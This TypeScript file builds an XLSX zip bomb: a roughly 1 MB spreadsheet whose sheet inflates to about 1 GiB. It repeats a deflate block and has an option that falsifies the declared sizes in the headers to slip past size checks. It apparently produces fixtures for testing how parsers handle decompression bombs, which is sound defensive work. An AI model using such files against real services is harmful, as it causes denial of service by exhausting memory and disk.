import { constants, crc32, deflateRawSync } from 'node:zlib';

export interface ZipBombOptions {
	/** How many copies of a 1 MiB piece of cells the sheet's one row holds (1 024: a sheet of 1 GiB). */
	pieces?: number;
	/** Declare the true unpacked sizes in the zip's headers (otherwise 1 000 bytes each, a lie). */
	honestSizes?: boolean;
}

const SHEET_HEAD =
	'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1">';
const SHEET_TAIL = '</row></sheetData></worksheet>';

const SMALL_FILES: Array<[string, string]> = [
	[
		'[Content_Types].xml',
		'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>'
	],
	[
		'_rels/.rels',
		'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>'
	],
	[
		'xl/workbook.xml',
		'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Blad1" sheetId="1" r:id="rId1"/></sheets></workbook>'
	],
	[
		'xl/_rels/workbook.xml.rels',
		'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'
	]
];

interface TEntry {
	name: Buffer;
	data: Buffer;
	crc: number;
	size: number;
}

/**
 * A valid XLSX file of about 1 MB whose one sheet unpacks to about 1 GiB of identical cells. Built without
 * holding or compressing the gigabyte: one piece of rows is deflated with a sync flush (ending on a byte
 * boundary), and a deflate stream may repeat such blocks; the CRC is chained over the copies.
 */
export function zipBombXlsx(options: ZipBombOptions = {}): Uint8Array {
	const pieces = options.pieces ?? 1024;
	// Every cell has the same address, so that the pieces are identical; a reader keeps the last one.
	const cell = '<c r="A1"><v>1</v></c>';
	const piece = Buffer.from(cell.repeat(Math.floor((1024 * 1024) / cell.length)));
	const sync = { finishFlush: constants.Z_SYNC_FLUSH, level: 9 };
	const head = Buffer.from(SHEET_HEAD);
	const tail = Buffer.from(SHEET_TAIL);
	const packedPiece = deflateRawSync(piece, sync);
	let crc = crc32(head);
	for (let i = 0; i < pieces; i++) crc = crc32(piece, crc);
	crc = crc32(tail, crc);
	const sheet: TEntry = {
		name: Buffer.from('xl/worksheets/sheet1.xml'),
		data: Buffer.concat([
			deflateRawSync(head, sync),
			...Array.from({ length: pieces }, () => packedPiece),
			deflateRawSync(tail)
		]),
		crc,
		size: head.length + piece.length * pieces + tail.length
	};
	const entries: TEntry[] = SMALL_FILES.map(([name, text]) => ({
		name: Buffer.from(name),
		data: deflateRawSync(text),
		crc: crc32(text),
		size: Buffer.byteLength(text)
	}));
	entries.push(sheet);
	return buildZip(entries, options.honestSizes ?? true);
}

function buildZip(entries: TEntry[], honest: boolean): Uint8Array {
	const parts: Buffer[] = [];
	const central: Buffer[] = [];
	let offset = 0;
	for (const e of entries) {
		const size = honest ? e.size : Math.min(e.size, 1000);
		const local = Buffer.alloc(30);
		local.writeUInt32LE(0x04034b50, 0);
		local.writeUInt16LE(20, 4);
		local.writeUInt16LE(0x0800, 6); // UTF-8 names
		local.writeUInt16LE(8, 8); // deflate
		local.writeUInt32LE(e.crc >>> 0, 14);
		local.writeUInt32LE(e.data.length, 18);
		local.writeUInt32LE(size, 22);
		local.writeUInt16LE(e.name.length, 26);
		const dir = Buffer.alloc(46);
		dir.writeUInt32LE(0x02014b50, 0);
		dir.writeUInt16LE(20, 4);
		dir.writeUInt16LE(20, 6);
		dir.writeUInt16LE(0x0800, 8);
		dir.writeUInt16LE(8, 10);
		dir.writeUInt32LE(e.crc >>> 0, 16);
		dir.writeUInt32LE(e.data.length, 20);
		dir.writeUInt32LE(size, 24);
		dir.writeUInt16LE(e.name.length, 28);
		dir.writeUInt32LE(offset, 42);
		parts.push(local, e.name, e.data);
		central.push(dir, e.name);
		offset += local.length + e.name.length + e.data.length;
	}
	const directory = Buffer.concat(central);
	const end = Buffer.alloc(22);
	end.writeUInt32LE(0x06054b50, 0);
	end.writeUInt16LE(entries.length, 8);
	end.writeUInt16LE(entries.length, 10);
	end.writeUInt32LE(directory.length, 12);
	end.writeUInt32LE(offset, 16);
	return new Uint8Array(Buffer.concat([...parts, directory, end]));
}
